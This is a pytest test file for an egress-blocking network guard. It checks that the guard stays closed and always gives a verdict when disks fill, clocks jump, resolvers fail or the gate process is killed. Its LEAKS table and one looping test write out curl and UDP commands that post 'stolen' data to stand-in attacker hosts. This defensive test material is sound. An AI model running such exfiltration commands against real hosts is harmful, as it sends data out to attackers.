"""What fails around a guarded job, and parts of the guard that are made to fail: it never opens, and there is always a verdict.

Killing and stopping the gate and the warden once: ``test_attacks.py``.
"""

from __future__ import annotations

import json
import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from ebbgate.exit_codes import BROKEN, TAMPERED
from tests.attacks.programs import send_udp
from tests.job.guarded import STATE, Job
from tests.machine import Machine
from tests.machine.altered import altered
from tests.world.guard import Outcome
from tests.world.internet import ATTACKERS, EVIL

pytestmark = pytest.mark.root
POST_SECONDS = 30.0  # that the action gives its last step
ALLOWED, DENIED = "https://api.example.com", "https://attacker.example.org"
GET = ["curl", "-sS", "-m", "20"]
# Every way out that the guard could have left open.
LEAKS = {
    "by name": [*GET, "-m", "4", "-d", "stolen", f"{DENIED}/"],
    "by address": [*GET, "-k", "-m", "4", "-d", "stolen", f"https://{EVIL}/"],
    "UDP": send_udp(EVIL, 4444),
}


def judged(job: Job) -> Outcome:
    """The verdict, which has to come while the last step still waits for it."""
    began = time.monotonic()
    found = job.verdict()
    assert time.monotonic() - began < POST_SECONDS
    return found


def assert_closed(job: Job) -> None:
    """Nothing gets to an attacker, whatever is tried."""
    for leak in LEAKS.values():
        job.step(leak, name="leak", timeout=30)
    assert {one for one in job.machine.sent() if one[0] in ATTACKERS} == set()
    assert job.machine.world.at(*ATTACKERS) == []


def until(condition: Callable[[], bool], seconds: float = 30.0) -> None:
    deadline = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.05)


FILL = "mount -o remount,size=64M /run; cat /dev/zero >/run/filling || true"


def test_a_disk_that_fills_up_closes_the_machine(machine: Machine) -> None:
    """What cannot be written down does not leave; what was on its way is in the report."""
    with Job(machine, allow="api.example.com") as job:
        assert job.step([*GET, f"{ALLOWED}/before"]).code == 0
        machine.sh(FILL, user="root")
        script = f"for i in $(seq 200); do curl -sS -m 9 {ALLOWED}/$i || exit 7; done"
        assert job.step(["sh", "-c", script], timeout=90).code == 7
        until(lambda: job.status()["gate"] == 0)
        reached = [request.path for one in machine.world.connections for request in one.requests]
        assert job.step([*GET, "-m", "3", f"{ALLOWED}/after"], timeout=30).code != 0
        assert_closed(job)
        verdict = judged(job)
        assert verdict.code in (BROKEN, TAMPERED)  # the latter when a guard that is tested beside this one takes the gate's user
        assert any("Journal failed in write: OSError" in one["detail"] for one in verdict.report["incidents"])
        assert "/after" not in reached
        assert sum(one["exchanges"] for one in verdict.report["destinations"]) == len(reached)
        machine.sh("rm /run/filling", user="root")


def test_a_full_disk_at_the_start_is_refused_and_nothing_is_changed(machine: Machine) -> None:
    before = machine.run(["nft", "list", "ruleset"], user="root").stdout
    bundle = machine.read("/etc/ssl/certs/ca-certificates.crt")
    job = Job(machine)
    job.runner = machine.popen(["sleep", "60"])
    document = job.document()
    machine.write("/run/test-sysctls/kernel/core_pattern", "core\n", user="root")
    machine.sh(FILL, user="root")
    refused = job.ebbgate(
        "start", "--stdin", "--connector-netns", f"/proc/{os.getpid()}/ns/net", "--sysctls", "/run/test-sysctls",
        user="root", input=json.dumps(document).encode(),
    )  # fmt: skip
    assert refused.code in (3, 93), refused.stderr
    assert refused.stdout == ""
    assert machine.run(["nft", "list", "ruleset"], user="root").stdout == before
    assert machine.read("/etc/ssl/certs/ca-certificates.crt") == bundle
    assert machine.run(["ls", STATE], user="root").code != 0


def test_a_state_directory_that_is_covered_read_only(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        machine.sh(f"mount -t tmpfs -o ro none {STATE}", user="root")
        assert_closed(job)
        assert judged(job).code == 93
        time.sleep(3)  # the warden looks each second, and nothing that could be asked about it can be reached meanwhile
        machine.sh(f"umount {STATE}", user="root")
        assert judged(job).code == 92


JUMPS = """

import time
_real = time.time
time.time = lambda: _real() + 31_557_600 * int(open("/run/test-years").read())
"""


def test_a_clock_that_jumps_by_years(machine: Machine) -> None:
    """What Python reads of it, in the gate and in the warden; the kernel's own is every other test's, too."""
    machine.write("/run/test-years", "0", user="root")
    with Job(machine, program=altered(machine, "errors", JUMPS), allow="api.example.com") as job:
        slow = job.begin([*GET, "--limit-rate", "1M", "-o", "/dev/null", f"{ALLOWED}/bytes/5000000"])
        until(lambda: bool(machine.world.connections))
        for years in ("10", "-10", "1", "-1"):
            machine.inside(lambda years=years: Path("/run/test-years").write_text(years))
            assert "got GET" in job.step([*GET, f"{ALLOWED}/"]).stdout
            assert_closed(job)
        assert slow.wait(30) == 0
        assert job.status()["gate_restarts"] == 0
        verdict = judged(job)
        assert verdict.code == 90, verdict.report["incidents"]
        times = [one["time"] for one in job.events()]
        assert max(times) - min(times) > 300_000_000, "the clock did not jump"
        assert all(0 <= one["duration"] < 60 for one in job.events("Exchange"))


def test_the_authority_is_valid_a_year_back_and_ahead(machine: Machine) -> None:
    """A snapshot that wakes up, or a clock that is set right, must not break every connection of the job."""
    with Job(machine, allow="api.example.com") as job:
        for days in (-360, -30, 0, 30, 360):
            moment = int(time.time()) + days * 86400
            checked = job.step(
                ["openssl", "verify", "-attime", str(moment), "-CAfile", f"{STATE}/ca.pem", f"{STATE}/ca.pem"]
            )  # fmt: skip
            assert checked.code == 0, (days, checked.stderr)


SPOILED: dict[str, tuple[float, Callable[[bytes], bytes]]] = {
    "no answer": (0.0, lambda _answer: b""),
    "an answer after 4 s": (4.0, lambda answer: answer),
    "garbage behind the right number": (0.0, lambda answer: answer[:2] + b"\xc0\x0c" * 200),
}


@pytest.mark.parametrize("name", SPOILED)
def test_a_resolver_that_fails(machine: Machine, name: str) -> None:
    with Job(machine, allow="*.example.com") as job:  # a name written out would be known already
        machine.world.delay, machine.world.spoiled = SPOILED[name]
        asking = job.begin([*GET, "-o", "/dev/null", f"{ALLOWED}/"])
        began = time.monotonic()
        assert "refused" in job.step([*GET, "-m", "9", f"{DENIED}/"]).stdout  # does not wait for the other
        assert_closed(job)
        assert asking.wait(40) != 0
        verdict = judged(job)
        assert verdict.code == 90, verdict.report["incidents"]
        assert time.monotonic() - began < 90
        machine.world.delay, machine.world.spoiled = 0.0, lambda answer: answer
        until(lambda: "got GET" in job.step([*GET, f"{ALLOWED}/"]).stdout, 60)


def test_a_gate_that_is_killed_ten_times(machine: Machine) -> None:
    with Job(machine, allow="api.example.com") as job:
        stubborn = job.begin(
            ["sh", "-c", f"while :; do curl -sk -m 1 -d stolen https://{EVIL}/; done"], stdout=subprocess.DEVNULL
        )
        killed = 0
        while killed < 10 and (pid := job.status()["gate"]):
            machine.run(["kill", "-9", str(pid)], user="root")
            killed += 1
            until(lambda pid=pid: job.status()["gate"] != pid)
        assert killed == 9, "it is replaced eight times, and then no more"
        assert job.step([*GET, "-m", "3", f"{ALLOWED}/"]).code != 0
        stubborn.kill()
        assert_closed(job)
        verdict = judged(job)
        assert verdict.code in (BROKEN, TAMPERED)  # the latter when a guard that is tested beside this one takes the gate's user
        assert len(job.events("GateLost")) == killed
        assert any("TooMany" in one["detail"] for one in verdict.report["incidents"])


def unreadable(machine: Machine, *addresses: str) -> subprocess.Popen[bytes]:
    """Starts ``unreadable.py``; ``hide`` is to follow."""
    program = machine.write("/tmp/unreadable.py", Path(__file__).with_name("unreadable.py").read_text())
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    return machine.popen([machine.python, program, *addresses], user="root", cwd="/tmp", **pipes)


def hide(process: subprocess.Popen[bytes]) -> None:
    """From here on nobody can read its arguments."""
    assert process.stdout.readline().strip().isdigit()
    process.stdin.write(b"\n")
    process.stdin.flush()
    until(lambda: Path(f"/proc/{process.pid}/stat").read_text().rpartition(") ")[2][0] == "D")


def test_processes_whose_arguments_cannot_be_read_do_not_hold_the_guard_up(machine: Machine) -> None:
    hide(unreadable(machine))
    with Job(machine, allow="api.example.com") as job:
        warden = str(job.status()["warden"])
        machine.run(["kill", "-STOP", warden], user="root")  # so that it comes late, as on a busy machine
        hidden = [unreadable(machine, EVIL) for _ in range(3)]
        for one in hidden:
            hide(one)
        machine.run(["kill", "-CONT", warden], user="root")
        until(lambda: "got GET" in job.step([*GET, f"{ALLOWED}/"]).stdout)
        assert_closed(job)
        verdict = judged(job)
        assert verdict.code == 90, verdict.report["incidents"]
        assert any("from reading its arguments" in one["what"] for one in verdict.report["notices"])
        pids = {one.pid for one in hidden}
        until(lambda: pids <= {(one["origin"]["process"] or {}).get("pid") for one in job.events("Exchange")})


def _dead_warden(job: Job) -> None:
    pid = job.status()["warden"]
    job.machine.run(["kill", "-9", str(pid)], user="root")
    until(lambda: not Path(f"/proc/{pid}/exe").exists())


OLD_KERNEL = "\n\n_PERSIST = 0x80  # which this kernel knows as little as one before Linux 6.9 knows the other\n"


def test_where_tables_end_with_their_owner_a_plain_one_stays(machine: Machine) -> None:
    before = machine.run(["nft", "list", "ruleset"], user="root").stdout
    with Job(machine, program=altered(machine, "host.nft_table", OLD_KERNEL), allow="api.example.com") as job:
        assert "ebbgate_closed" in job.ruleset()
        assert "got GET" in job.step([*GET, f"{ALLOWED}/"]).stdout
        assert "refused" in job.step([*GET, f"{DENIED}/"]).stdout
        assert judged(job).code == 90
        _dead_warden(job)
        until(lambda: "table inet ebbgate {" not in job.ruleset())  # as on such a kernel: this is not the table that holds
        machine.world.forget()
        assert_closed(job)
        assert job.step([*GET, "-m", "4", f"{ALLOWED}/"]).code != 0
        assert machine.sent() == set()
        assert judged(job).code == 93
        assert job.ebbgate("stop", user="root").code == 0
        assert machine.run(["nft", "list", "ruleset"], user="root").stdout == before


def test_a_plain_table_that_root_deletes_is_missed(machine: Machine) -> None:
    with Job(machine, program=altered(machine, "host.nft_table", OLD_KERNEL), allow="api.example.com") as job:
        assert job.step(["sudo", "nft", "delete", "table", "inet", "ebbgate_closed"]).code == 0
        assert_closed(job)  # the owned one still stands
        verdict = judged(job)
        assert verdict.code == 92
        assert any("rules are gone" in one["detail"] for one in verdict.report["incidents"])
        assert job.ebbgate("stop", user="root").code == 0


def test_a_warden_that_hangs_is_ended_by_stop(machine: Machine) -> None:
    before = machine.run(["nft", "list", "ruleset"], user="root").stdout
    with Job(machine) as job:
        machine.run(["kill", "-STOP", str(job.status()["warden"])], user="root")
        began = time.monotonic()
        stopped = job.ebbgate("stop", user="root")
        assert time.monotonic() - began < POST_SECONDS
        assert stopped.code == 0, stopped.stderr
        assert machine.run(["nft", "list", "ruleset"], user="root").stdout == before
